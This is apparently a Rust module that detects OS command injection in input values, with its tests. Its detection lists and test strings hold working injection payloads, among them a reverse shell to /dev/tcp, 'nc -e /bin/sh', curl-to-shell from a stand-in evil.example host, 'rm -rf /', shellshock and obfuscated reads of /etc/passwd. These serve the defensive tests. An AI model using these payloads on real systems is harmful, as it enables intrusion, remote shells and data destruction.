//! OS command injection: a shell metacharacter (`;`, `|`, `||`, `&`, `&&`, newline,
//! backtick, `$(`, `{a,b}`) followed by a known command whose arguments look like a
//! command line (`; cat /etc/passwd`, `| nc 10.0.0.1 4444`, `` `id` ``, `$(whoami)`),
//! with the usual obfuscations undone (`c'a't`, `c\at`, `${IFS}`, `/???/c?t` globs,
//! `/usr/bin/` prefixes, `.exe`), plus unambiguous forms anywhere (`/dev/tcp/`,
//! `nc -e`, `cmd /c`, `powershell -enc`, shellshock `() { :;};`, `system('...')`).

use super::{is_word, PatSet};

/// What must follow a command for it to count.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Arg {
    /// Nothing, a flag, or a terminator (`id`, `whoami`, `uname -a`).
    Alone,
    /// A path, flag, variable or glob (`cat /etc/passwd`, `ls -la`); `ls` may be alone.
    Path,
    /// Like `Path`, but the command may also stand alone (`ls`, `dir`, `env`).
    PathOrAlone,
    /// A host, IP, URL or flag (`ping -c 1 x`, `nc 10.0.0.1 80`).
    Net,
    /// A flag, path or redirection, or nothing (`| sh`, `bash -i`, `python -c`).
    Interp,
    /// A number (`sleep 5`).
    Num,
    /// A Windows `net` subcommand (`net user`).
    NetSub,
    /// Any quoted or variable argument, or a redirection (`echo $PATH > x`).
    Echo,
    /// Any argument (distinctive tools: `wmic process list`).
    Any,
}

/// Commands: name, argument rule, strong (also counts inside backticks and at the
/// start of the value).
const COMMANDS: &[(&[u8], Arg, bool)] = &[
    (b"id", Arg::Alone, true),
    (b"whoami", Arg::Alone, true),
    (b"uname", Arg::Alone, true),
    (b"hostname", Arg::Alone, false),
    (b"ifconfig", Arg::Alone, true),
    (b"ipconfig", Arg::Alone, true),
    (b"systeminfo", Arg::Alone, true),
    (b"tasklist", Arg::Alone, true),
    (b"netstat", Arg::Alone, true),
    (b"pwd", Arg::Alone, false),
    (b"ps", Arg::Alone, false),
    (b"printenv", Arg::Alone, true),
    (b"ver", Arg::Alone, false),
    (b"uptime", Arg::Alone, false),
    (b"lsb_release", Arg::Alone, true),
    (b"getent", Arg::Path, true),
    (b"env", Arg::PathOrAlone, false),
    (b"set", Arg::Alone, false),
    (b"history", Arg::Alone, false),
    (b"reboot", Arg::Alone, false),
    (b"cat", Arg::Path, true),
    (b"tac", Arg::Path, true),
    (b"ls", Arg::PathOrAlone, false),
    (b"dir", Arg::PathOrAlone, false),
    (b"type", Arg::Path, false),
    (b"more", Arg::Path, false),
    (b"less", Arg::Path, false),
    (b"head", Arg::Path, true),
    (b"tail", Arg::Path, true),
    (b"nl", Arg::Path, false),
    (b"od", Arg::Path, false),
    (b"xxd", Arg::Path, true),
    (b"strings", Arg::Path, false),
    (b"base64", Arg::Path, false),
    (b"rm", Arg::Path, true),
    (b"cp", Arg::Path, false),
    (b"mv", Arg::Path, false),
    (b"chmod", Arg::Path, true),
    (b"chown", Arg::Path, true),
    (b"touch", Arg::Path, false),
    (b"mkdir", Arg::Path, false),
    (b"find", Arg::Path, false),
    (b"grep", Arg::Path, false),
    (b"awk", Arg::Echo, false),
    (b"sed", Arg::Path, false),
    (b"tar", Arg::Path, false),
    (b"dd", Arg::Path, false),
    (b"tee", Arg::Path, false),
    (b"echo", Arg::Echo, false),
    (b"printf", Arg::Echo, false),
    (b"del", Arg::Path, false),
    (b"copy", Arg::Path, false),
    (b"icacls", Arg::Path, false),
    (b"kill", Arg::Path, false),
    (b"killall", Arg::Path, false),
    (b"crontab", Arg::Path, true),
    (b"ping", Arg::Net, true),
    (b"ping6", Arg::Net, true),
    (b"nc", Arg::Net, true),
    (b"ncat", Arg::Net, true),
    (b"netcat", Arg::Net, true),
    (b"socat", Arg::Net, true),
    (b"telnet", Arg::Net, true),
    (b"curl", Arg::Net, false),
    (b"wget", Arg::Net, false),
    (b"nslookup", Arg::Net, true),
    (b"dig", Arg::Net, false),
    (b"host", Arg::Net, false),
    (b"ssh", Arg::Net, false),
    (b"scp", Arg::Net, false),
    (b"ftp", Arg::Net, false),
    (b"tftp", Arg::Net, true),
    (b"traceroute", Arg::Net, false),
    (b"tracert", Arg::Net, false),
    (b"bash", Arg::Interp, true),
    (b"sh", Arg::Interp, true),
    (b"zsh", Arg::Interp, true),
    (b"ksh", Arg::Interp, true),
    (b"dash", Arg::Interp, false),
    (b"csh", Arg::Interp, true),
    (b"tcsh", Arg::Interp, true),
    (b"busybox", Arg::Interp, true),
    (b"python", Arg::Interp, false),
    (b"python2", Arg::Interp, true),
    (b"python3", Arg::Interp, true),
    (b"perl", Arg::Interp, false),
    (b"ruby", Arg::Interp, false),
    (b"php", Arg::Interp, false),
    (b"node", Arg::Interp, false),
    (b"lua", Arg::Interp, false),
    (b"powershell", Arg::Interp, true),
    (b"pwsh", Arg::Interp, true),
    (b"cmd", Arg::Interp, true),
    (b"certutil", Arg::Interp, true),
    (b"bitsadmin", Arg::Interp, true),
    (b"mshta", Arg::Net, true),
    (b"rundll32", Arg::Path, true),
    (b"regsvr32", Arg::Path, true),
    (b"wmic", Arg::Any, true),
    (b"sudo", Arg::Interp, true),
    (b"reg", Arg::NetSub, false),
    (b"sleep", Arg::Num, true),
    (b"timeout", Arg::Num, false),
    (b"net", Arg::NetSub, true),
    (b"shutdown", Arg::Interp, false),
];

/// Unambiguous shell forms that count anywhere in the value.
const ANYWHERE_LIST: &[&[u8]] = &[
    b"/dev/tcp/",
    b"/dev/udp/",
    b"bash -i",
    b"sh -i >",
    b"nc -e ",
    b"nc -c ",
    b"ncat -e ",
    b"netcat -e ",
    b"-e /bin/sh",
    b"-e /bin/bash",
    b"-e cmd.exe",
    b"mkfifo /tmp/",
    b"cmd /c ",
    b"cmd.exe /c",
    b"cmd /k ",
    b"cmd.exe /k",
    b"cmd /q",
    b"powershell -e",
    b"powershell -nop",
    b"powershell -w",
    b"powershell -c ",
    b"powershell.exe",
    b"powershell iex",
    b"pwsh -c ",
    b"iex(new-object",
    b"iex (new-object",
    b"invoke-expression",
    b"downloadstring(",
    b"start-process ",
    b"/bin/sh -c",
    b"/bin/bash -c",
    b"runtime.getruntime().exec(",
    b"java.lang.runtime",
    b"processbuilder(",
    b"child_process",
    b"__import__('os')",
    b"__import__(\"os\")",
    b"wget -o- ",
];

/// Code-execution calls that count when given a string, variable or backtick.
const EXEC_CALLS_LIST: &[&[u8]] = &[
    b"system(",
    b"exec(",
    b"passthru(",
    b"shell_exec(",
    b"popen(",
    b"proc_open(",
    b"pcntl_exec(",
    b"os.system(",
    b"os.popen(",
    b"subprocess.call(",
    b"subprocess.popen(",
    b"subprocess.run(",
    b"subprocess.check_output(",
    b"spawn(",
    b"execsync(",
];

/// The [`ANYWHERE_LIST`] forms made only of words, spaces and commas (the others need
/// other punctuation, or a full stop, which [`words_may_inject`] never rules out);
/// `word_forms_are_listed` keeps the two lists in step.
const WORD_ANYWHERE: &[&[u8]] = &[b"powershell iex"];

/// Prefix commands that take a command after them (`sudo id`).
const PREFIXES: &[&[u8]] = &[
    b"sudo", b"nohup", b"exec", b"eval", b"xargs", b"env", b"time", b"doas",
];

/// Per first letter, a bit per length (1..=15) of the [`COMMANDS`] and [`PREFIXES`]
/// names starting with it: a word whose bit is clear names no command.
static NAME_SHAPES: [u16; 26] = {
    let mut t = [0u16; 26];
    let mut i = 0;
    while i < COMMANDS.len() {
        shape(&mut t, COMMANDS[i].0);
        i += 1;
    }
    let mut i = 0;
    while i < PREFIXES.len() {
        shape(&mut t, PREFIXES[i]);
        i += 1;
    }
    t
};

const fn shape(t: &mut [u16; 26], name: &[u8]) {
    let first = name[0];
    let len = if name.len() > 15 { 15 } else { name.len() };
    if first.is_ascii_lowercase() {
        t[(first - b'a') as usize] |= 1 << len;
    }
}

/// Slots of [`NAME_TABLE`] (a power of two, more than twice the names).
const NAME_SLOTS: usize = 256;

/// The names of [`COMMANDS`] then [`PREFIXES`], by index.
const fn listed_name(i: usize) -> &'static [u8] {
    if i < COMMANDS.len() {
        COMMANDS[i].0
    } else {
        PREFIXES[i - COMMANDS.len()]
    }
}

/// FNV-1a of a name, reduced to a slot of [`NAME_TABLE`].
const fn name_slot(w: &[u8]) -> usize {
    let mut h: u32 = 0x811c_9dc5;
    let mut i = 0;
    while i < w.len() {
        h = (h ^ w[i] as u32).wrapping_mul(0x0100_0193);
        i += 1;
    }
    h as usize & (NAME_SLOTS - 1)
}

/// Every command and prefix name, open-addressed: the slot [`name_slot`] gives (or
/// the next one, round) holds 1 + the name's index for [`listed_name`]; 0 is free.
/// One hash and about one comparison per word instead of a walk of both lists.
static NAME_TABLE: [u8; NAME_SLOTS] = {
    let names = COMMANDS.len() + PREFIXES.len();
    assert!(names * 2 < NAME_SLOTS && names < u8::MAX as usize);
    let mut t = [0u8; NAME_SLOTS];
    let mut i = 0;
    while i < names {
        let mut s = name_slot(listed_name(i));
        while t[s] != 0 {
            s = (s + 1) & (NAME_SLOTS - 1);
        }
        t[s] = (i + 1) as u8;
        i += 1;
    }
    t
};

/// Whether `w` is a command or prefix name (`NAME_SHAPES` first, then [`NAME_TABLE`]).
fn is_command_name(w: &[u8]) -> bool {
    let Some(&first) = w.first() else {
        return false;
    };
    let bits = if first.is_ascii_lowercase() {
        NAME_SHAPES
            .get(usize::from(first - b'a'))
            .copied()
            .unwrap_or(0)
    } else {
        // Not a shape the table covers: ask `NAME_TABLE`.
        u16::MAX
    };
    if bits & 1 << w.len().min(15) == 0 {
        return false;
    }
    let mut s = name_slot(w);
    // The table has free slots, so the probe ends.
    for _ in 0..NAME_SLOTS {
        match NAME_TABLE.get(s).copied().unwrap_or(0) {
            0 => return false,
            // A stored `i` is 1 + an index below the number of names (the build).
            i if listed_name(usize::from(i) - 1) == w => return true,
            _ => s = (s + 1) & (NAME_SLOTS - 1),
        }
    }
    false
}

/// Whether a value made only of words (lower-case ASCII letters and digits) separated
/// by spaces, commas and full stops could be a command injection at all: with a full
/// stop always (`whoami.exe`, `java.lang.runtime`), otherwise only when its first word
/// (up to a space or a comma: `id,` runs `id`) names a
/// command (the value itself as a command line, `sleep 5`, `net user`) or it holds a
/// [`WORD_ANYWHERE`] form. Every other rule needs a separator, a path, a quote or a
/// parenthesis. Lets the caller skip [`detect`] for prose such as `standard delivery`
/// (`words_without_commands_never_fire` checks the claim against [`detect`]).
pub fn words_may_inject(t: &[u8]) -> bool {
    // A full stop may belong to a command's word (`whoami.exe`, `java.lang.runtime`):
    // only prose without one is ruled out.
    if t.contains(&b'.') {
        return true;
    }
    let first = t
        .split(|&b| matches!(b, b' ' | b','))
        .find(|w| !w.is_empty())
        .unwrap_or_default();
    is_command_name(first) || WORD_ANYWHERE.iter().any(|p| super::contains(t, p))
}

static ANYWHERE: PatSet = PatSet::new(ANYWHERE_LIST);
static EXEC_CALLS: PatSet = PatSet::new(EXEC_CALLS_LIST);

fn at(t: &[u8], i: usize) -> u8 {
    t.get(i).copied().unwrap_or(0)
}

fn is_ws(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | 0x0b | 0x0c)
}

/// Ends a command: end of value, separators, redirections, quotes closing a
/// substitution.
fn is_term(b: u8) -> bool {
    matches!(
        b,
        0 | b';'
            | b'|'
            | b'&'
            | b'\n'
            | b'\r'
            | b'`'
            | b')'
            | b'#'
            | b'>'
            | b'<'
            | b'\''
            | b'"'
            | b'}'
    )
}

/// Skips shell whitespace, including `${IFS}`, `$IFS$9`, `$IFS`, `{` and `(`.
fn skip_ws(t: &[u8], mut j: usize) -> usize {
    loop {
        let rest = t.get(j..).unwrap_or_default();
        if rest
            .first()
            .is_some_and(|&b| is_ws(b) || b == b'(' || b == b'{')
        {
            j += 1;
        } else if rest.starts_with(b"${ifs}") || rest.starts_with(b"$ifs$9") {
            j += 6;
        } else if rest.starts_with(b"$ifs") {
            j += 4;
        } else if rest.starts_with(b"$@") || rest.starts_with(b"$()") {
            j += if rest.starts_with(b"$@") { 2 } else { 3 };
        } else {
            return j;
        }
    }
}

/// Skips spaces only (arguments), including `${IFS}` and brace-expansion commas.
fn skip_arg_ws(t: &[u8], mut j: usize) -> usize {
    loop {
        let rest = t.get(j..).unwrap_or_default();
        if rest.first().is_some_and(|&b| is_ws(b) || b == b',') {
            j += 1;
        } else if rest.starts_with(b"${ifs}") || rest.starts_with(b"$ifs$9") {
            j += 6;
        } else if rest.starts_with(b"$ifs") {
            j += 4;
        } else {
            return j;
        }
    }
}

/// Reads a command word at `j`, undoing quote/backslash splitting; returns the word
/// (in `buf`), its length and the end position.
fn read_word(t: &[u8], mut j: usize, buf: &mut [u8; 24]) -> (usize, usize) {
    let mut n = 0;
    loop {
        let b = at(t, j);
        if b.is_ascii_alphanumeric() || b == b'_' || b == b'-' || b == b'.' {
            if let Some(s) = buf.get_mut(n) {
                *s = b;
                n += 1;
            } else {
                return (0, j);
            }
            j += 1;
        } else if matches!(b, b'\'' | b'"' | b'\\')
            && n > 0
            && (at(t, j + 1).is_ascii_alphanumeric() || at(t, j + 1) == b)
        {
            // `c'a't`, `c"a"t`, `c\at`, `w''hoami`
            j += 1;
        } else if b == b'$' && n > 0 && matches!(at(t, j + 1), b'@' | b'9') {
            j += 2;
        } else {
            return (n, j);
        }
    }
}

/// Whether the argument at `j` (after the command word) fits `rule`.
fn arg_fits(t: &[u8], word_end: usize, rule: Arg) -> bool {
    let j = skip_arg_ws(t, word_end);
    let spaced = j > word_end;
    let b = at(t, j);
    let b1 = at(t, j + 1);
    let end = j >= t.len() || is_term(b);
    // A command glued to a word is not a command (`cats`); read_word already stopped.
    if !spaced && !end {
        return false;
    }
    // `chmod 777 /x`, `kill -9 1`: a number or flag before the path.
    let after_num = {
        let mut k = j;
        while at(t, k).is_ascii_digit() || (k == j && at(t, k) == b'-') {
            k += 1;
        }
        let flag = at(t, j) == b'-';
        let next = at(t, skip_arg_ws(t, k));
        k > j + usize::from(flag)
            && is_ws(at(t, k))
            && (matches!(next, b'/' | b'~' | b'.' | b'$' | b'*')
                || (flag && next.is_ascii_alphanumeric()))
    };
    let pathish = matches!(b, b'/' | b'~' | b'$' | b'*' | b'\\' | b'%')
        || after_num
        || (b == b'<' && matches!(b1, b'/' | b'~' | b'.' | b'$'))
        || (b == b'.' && matches!(b1, b'/' | b'.' | b'\\' | b'e' | b'h' | b's' | b'b'))
        || (b.is_ascii_alphabetic() && b1 == b':' && matches!(at(t, j + 2), b'/' | b'\\'))
        || (b == b'-' && (b1.is_ascii_alphabetic() || b1 == b'-'))
        || (matches!(b, b'\'' | b'"') && matches!(b1, b'/' | b'~' | b'$' | b'-'));
    match rule {
        Arg::Alone => {
            end || t
                .get(j..)
                .is_some_and(|r| r.starts_with(b"aux") || r.starts_with(b"-ef"))
                || (b == b'-' && b1.is_ascii_alphabetic())
                || (b == b'/'
                    && b1.is_ascii_alphabetic()
                    && !t
                        .get(j + 1..)
                        .is_some_and(|r| r.iter().take(8).any(|&c| c == b'/')))
        }
        Arg::Path => pathish,
        Arg::PathOrAlone => end || pathish,
        Arg::Interp => end || pathish || matches!(b, b'<' | b'>'),
        Arg::Num => {
            b.is_ascii_digit() && {
                let mut k = j;
                while at(t, k).is_ascii_digit() || at(t, k) == b'.' {
                    k += 1;
                }
                let k2 = skip_arg_ws(t, k);
                k2 >= t.len() || is_term(at(t, k2)) || at(t, k2) == b'-'
            }
        }
        Arg::Net => {
            if b == b'-' || b.is_ascii_digit() || b == b'$' || b == b'`' {
                return !end;
            }
            // a host: letters with a dot or colon, or localhost
            let w: &[u8] = t.get(j..).unwrap_or_default();
            let len = w
                .iter()
                .take_while(|&&c| {
                    c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b':' | b'/' | b'_')
                })
                .count();
            let host = w.get(..len).unwrap_or_default();
            len > 0
                && (host.contains(&b'.') || host.contains(&b':') || host.starts_with(b"localhost"))
        }
        Arg::NetSub => {
            let w = t.get(j..).unwrap_or_default();
            [
                &b"user"[..],
                b"localgroup",
                b"view",
                b"share",
                b"use ",
                b"group",
                b"accounts",
                b"session",
                b"query",
                b"add ",
            ]
            .iter()
            .any(|s| w.starts_with(s))
        }
        Arg::Any => spaced && !end,
        Arg::Echo => {
            spaced
                && (!end || matches!(b, b'\'' | b'"'))
                && (matches!(b, b'$' | b'\'' | b'"' | b'-' | b'`')
                    || t.get(j..)
                        .is_some_and(|r| r.iter().take(128).any(|&c| c == b'>' || c == b'|')))
        }
    }
}

/// A command at `j` (after a separator). `strong_only`: backtick or value start.
fn command_at(t: &[u8], j: usize, strong_only: bool, depth: u8) -> bool {
    let mut j = skip_ws(t, j);
    // Absolute or relative path to the binary.
    if matches!(at(t, j), b'/' | b'\\')
        || (at(t, j).is_ascii_alphabetic() && at(t, j + 1) == b':' && at(t, j + 2) == b'\\')
    {
        let rest = t.get(j..).unwrap_or_default();
        let len = rest
            .iter()
            .take_while(|&&c| !is_ws(c) && !is_term(c) || c == b'\\')
            .count();
        let path = rest.get(..len).unwrap_or_default();
        // `/???/c?t`, `/bin/c*`: globbed binaries
        let globs = path.iter().filter(|&&c| c == b'?' || c == b'*').count();
        let bin_dir = path.starts_with(b"/bin/")
            || path.starts_with(b"/usr/bin/")
            || path.starts_with(b"/sbin/");
        if (globs >= 2 || (globs == 1 && bin_dir))
            && path.iter().filter(|&&c| c == b'/').count() >= 2
        {
            return true;
        }
        match path.iter().rposition(|&c| c == b'/' || c == b'\\') {
            Some(p) => {
                let dir = path.get(..p).unwrap_or_default();
                if dir.is_empty()
                    || !dir.iter().all(|&c| {
                        c.is_ascii_alphanumeric() || matches!(c, b'/' | b'\\' | b':' | b'_' | b'.')
                    })
                {
                    return false;
                }
                j += p + 1;
            }
            None => return false,
        }
    }
    let mut buf = [0u8; 24];
    let (n, end) = read_word(t, j, &mut buf);
    let mut word = buf.get(..n).unwrap_or_default();
    if let Some(w) = word.strip_suffix(b".exe") {
        word = w;
    }
    if word.is_empty() {
        return false;
    }
    // Prefix commands.
    if depth == 0 && PREFIXES.contains(&word) {
        let k = skip_arg_ws(t, end);
        if k > end && command_at(t, k, strong_only, 1) {
            return true;
        }
    }
    COMMANDS
        .iter()
        .find(|(name, _, _)| {
            name.len() == word.len() && name.first() == word.first() && *name == word
        })
        .is_some_and(|&(_, rule, strong)| (strong || !strong_only) && arg_fits(t, end, rule))
}

/// Whether the `|` at `i` is a markdown table cell separator.
fn in_table_row(t: &[u8], i: usize) -> bool {
    let head = t.get(..i).unwrap_or_default();
    let ls = head.iter().rposition(|&b| b == b'\n').map_or(0, |p| p + 1);
    if i - ls > 512 {
        return false;
    }
    let line_start = t.get(ls..).unwrap_or_default();
    let trimmed_start = line_start.iter().position(|&b| !is_ws(b)).unwrap_or(0);
    let line_end = line_start
        .iter()
        .position(|&b| b == b'\n')
        .unwrap_or(line_start.len());
    let line = line_start.get(trimmed_start..line_end).unwrap_or_default();
    let line = line.strip_suffix(b"\r").unwrap_or(line);
    let trimmed = line
        .iter()
        .rposition(|&b| !is_ws(b))
        .map_or(&line[..0], |p| line.get(..=p).unwrap_or_default());
    trimmed.first() == Some(&b'|')
        && trimmed.last() == Some(&b'|')
        && trimmed.iter().filter(|&&b| b == b'|').count() >= 3
}

fn exec_call(t: &[u8]) -> bool {
    EXEC_CALLS.any(t, |s, c| {
        let before = if s == 0 { b' ' } else { at(t, s - 1) };
        if is_word(before) && !c.contains(&b'.') {
            return false;
        }
        let mut k = s + c.len();
        while is_ws(at(t, k)) {
            k += 1;
        }
        matches!(at(t, k), b'\'' | b'"' | b'`' | b'$')
    })
}

/// Whether a normalised (decoded, lower-cased) value carries a command injection.
pub fn detect(t: &[u8]) -> bool {
    // `| sh` must end a command line (`curl x | sh`), not start a word.
    if ANYWHERE.any(t, |_, p| !p.starts_with(b"|")) || pipe_to_shell(t) {
        return true;
    }
    // Shellshock.
    if let Some(p) = super::find(t, b"() {") {
        let rest = t.get(p + 4..(p + 16).min(t.len())).unwrap_or_default();
        if super::contains(rest, b":;") || super::contains(rest, b": ;") {
            return true;
        }
    }
    if exec_call(t) {
        return true;
    }
    let mut i = 0;
    let mut checked = 0;
    // The value itself may be a command (`cat /etc/passwd`).
    if command_at(t, 0, true, 0) && t.first().is_some_and(|&b| !is_ws(b)) {
        return true;
    }
    while i < t.len() {
        let b = at(t, i);
        let (is_sep, strong_only, next) = match b {
            b';' | b'\n' | b'\r' => (true, false, i + 1),
            b'|' => {
                let next = if at(t, i + 1) == b'|' { i + 2 } else { i + 1 };
                (!in_table_row(t, i), false, next)
            }
            b'&' => (
                true,
                false,
                if at(t, i + 1) == b'&' { i + 2 } else { i + 1 },
            ),
            b'`' => (true, true, i + 1),
            b'$' if at(t, i + 1) == b'(' => (true, false, i + 2),
            b'{' => {
                // brace expansion `{cat,/etc/passwd}`
                let rest = t.get(i + 1..).unwrap_or_default();
                let w = rest
                    .iter()
                    .take_while(|c| c.is_ascii_alphanumeric())
                    .count();
                (rest.get(w) == Some(&b','), false, i + 1)
            }
            _ => (false, false, i + 1),
        };
        if is_sep {
            checked += 1;
            if checked > 256 {
                return false;
            }
            if command_at(t, next, strong_only, 0) {
                return true;
            }
        }
        i = next;
    }
    false
}

/// `curl http://x/s | sh`: a pipe into a shell at the end of a command line.
fn pipe_to_shell(t: &[u8]) -> bool {
    let mut start = 0;
    while let Some(p) = t
        .get(start..)
        .and_then(|r| r.iter().position(|&b| b == b'|'))
    {
        let i = start + p;
        start = i + 1;
        let mut j = i + 1;
        while is_ws(at(t, j)) {
            j += 1;
        }
        let rest = t.get(j..).unwrap_or_default();
        for sh in [&b"sh"[..], b"bash"] {
            if rest.starts_with(sh) {
                let e = at(t, j + sh.len());
                if e == 0 || is_ws(e) || is_term(e) {
                    return true;
                }
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    #[cfg(target_arch = "wasm32")]
    use wasm_bindgen_test::wasm_bindgen_test as test;

    fn d(s: &str) -> bool {
        detect(&crate::detect::decode::normalize(s.as_bytes(), false).text)
    }

    #[test]
    fn injections() {
        let bad = [
            "; cat /etc/passwd",
            "x;id",
            "x; id;",
            "| id",
            "|| whoami",
            "&& whoami",
            "& ping -c 10 127.0.0.1 &",
            "`id`",
            "$(whoami)",
            "$(curl http://evil.example/x.sh)",
            "%0aid",
            "%0a/bin/cat%20/etc/passwd",
            "; /usr/bin/id",
            ";c'a't /etc/passwd",
            ";c\\at /etc/passwd",
            ";cat${IFS}/etc/passwd",
            "{cat,/etc/passwd}",
            ";/???/??t /???/p??s??",
            "| nc -e /bin/sh 10.0.0.1 4444",
            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "; sleep 10",
            "& cmd /c dir",
            "| powershell -enc SQBFAFgA",
            "& net user",
            "() { :;}; /bin/bash -c 'cat /etc/passwd'",
            "'; system('id'); '",
            "; curl http://x.example/s.sh | sh",
            "; wget http://x.example/a -O /tmp/a",
            "cat /etc/passwd",
            "; sudo rm -rf /",
            "| type c:\\windows\\win.ini",
            "a;ls",
            "| dir c:\\",
            "; python -c 'import os'",
            "; echo $PATH",
        ];
        let bad = crate::test_util::wrong(&bad, true, d);
        assert!(bad.is_empty(), "{bad:?}");
    }

    #[test]
    fn benign_near_misses() {
        let bad = [
            "Milk; eggs; cat food",
            "Tom & Jerry",
            "AT&T and R&D; Q&A",
            "| id | name | email |\n|----|------|-------|\n| 1 | Bob | b@x.io |",
            "Bread; id card; keys",
            "I need sleep; 8 hours at least",
            "Run `npm install` then `cargo build`",
            "Tea & biscuits; ping me later",
            "salt & pepper",
            "color: red; font-size: 12px; display: none",
            "cats | dogs",
            "a && b || c",
            "time.sleep(5)",
            "I like cat videos",
            "echo chamber",
            "The host is responsive",
            "we use the dig command sometimes",
            "price: $(5) discount",
            "regex.exec(str)",
            "see the shell (bash) docs",
        ];
        let bad = crate::test_util::wrong(&bad, false, d);
        assert!(bad.is_empty(), "{bad:?}");
    }

    #[test]
    fn word_forms_are_listed() {
        let words_only = |p: &[u8]| {
            p.iter()
                .all(|&b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b' ' || b == b',')
        };
        let listed: Vec<&[u8]> = ANYWHERE_LIST
            .iter()
            .copied()
            .filter(|p| words_only(p))
            .collect();
        assert_eq!(listed, WORD_ANYWHERE);
        assert!(EXEC_CALLS_LIST.iter().all(|p| !words_only(p)));
    }

    #[test]
    fn command_names_are_known_by_shape() {
        for name in COMMANDS.iter().map(|c| c.0).chain(PREFIXES.iter().copied()) {
            assert!(is_command_name(name), "{}", String::from_utf8_lossy(name));
        }
        for w in [
            "standard",
            "delivery",
            "",
            "i",
            "cats",
            "shutdowns",
            "1",
            "sleepy",
        ] {
            assert!(!is_command_name(w.as_bytes()), "{w}");
        }
    }

    #[test]
    fn word_injections_pass_the_prefilter() {
        // Words-only values the detector flags: the prefilter must let each through.
        let samples = [
            "id",
            "whoami",
            "sleep 5",
            "net user",
            "ps aux",
            "wmic process list",
            "sudo id",
            "ls",
            "uname",
            "x powershell iex y",
            "id,",
            "id, whoami",
            "sleep 5.",
            "ping 1.2.3.4",
            "x powershell,iex y",
            "x powershell.iex y",
            "x. powershell iex",
            // Found by review: `.exe` and dotted forms are words of the detector.
            "whoami.exe ,",
            "id.exe ,",
            "sleep.exe 5",
            "ping.exe 10.0.0.1",
            "nc.exe 10.0.0.1 4444",
            "x powershell.exe y",
            "java.lang.runtime x",
        ];
        let mut flagged = 0;
        for v in samples {
            if d(v) {
                flagged += 1;
                assert!(words_may_inject(v.as_bytes()), "{v}");
            }
        }
        assert!(
            flagged >= 12,
            "too few words-only samples flagged: {flagged}"
        );
        assert!(!words_may_inject(b"standard delivery"));
        assert!(!words_may_inject(b"apple iphone 15"));
        // A comma ends the first word.
        assert!(!words_may_inject(b"3863 oak avenue, boston"));
        assert!(words_may_inject(b"id,x"));
    }
}

#[cfg(all(test, not(target_arch = "wasm32")))]
mod props {
    use super::*;
    use proptest::prelude::*;

    /// Words for [`words_without_commands_never_fire`]: every command and prefix name,
    /// the words their argument rules look for, prose and numbers.
    fn word() -> impl Strategy<Value = String> {
        let mut dict: Vec<String> = COMMANDS
            .iter()
            .map(|c| c.0)
            .chain(PREFIXES.iter().copied())
            .map(|w| String::from_utf8_lossy(w).into_owned())
            .collect();
        for w in [
            "aux",
            "ef",
            "a",
            "user",
            "localgroup",
            "process",
            "list",
            "iex",
            "powershell",
            "localhost",
            "5",
            "10",
            "1",
            "standard",
            "delivery",
            "hello",
            "the",
            "i",
            "sh",
            "bin",
            "etc",
            "passwd",
            "tmp",
            "c",
            "e",
            "k",
            "q",
            "nop",
            "enc",
            ".",
            "..",
            "x.sh",
            "evil.com",
            "1.2.3.4",
            "id.exe",
            "whoami.exe",
            "sleep.exe",
            "powershell.exe",
            "java.lang.runtime",
            "cmd.exe",
        ] {
            dict.push(w.to_string());
        }
        prop_oneof![
            4 => prop::sample::select(dict),
            1 => "[a-z0-9]{1,6}",
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(20_000))]
        /// The claim of [`words_may_inject`]: a words-only value it rules out is never
        /// flagged by [`detect`].
        #[test]
        fn words_without_commands_never_fire(
            lead in "[ ,.]{0,2}",
            words in proptest::collection::vec((word(), "[ ,.]{1,2}|, |\\. "), 1..6),
        ) {
            let v = crate::test_util::joined(&lead, &words);
            if !words_may_inject(v.as_bytes()) {
                prop_assert!(!detect(v.as_bytes()), "{v:?}");
            }
        }
    }
}
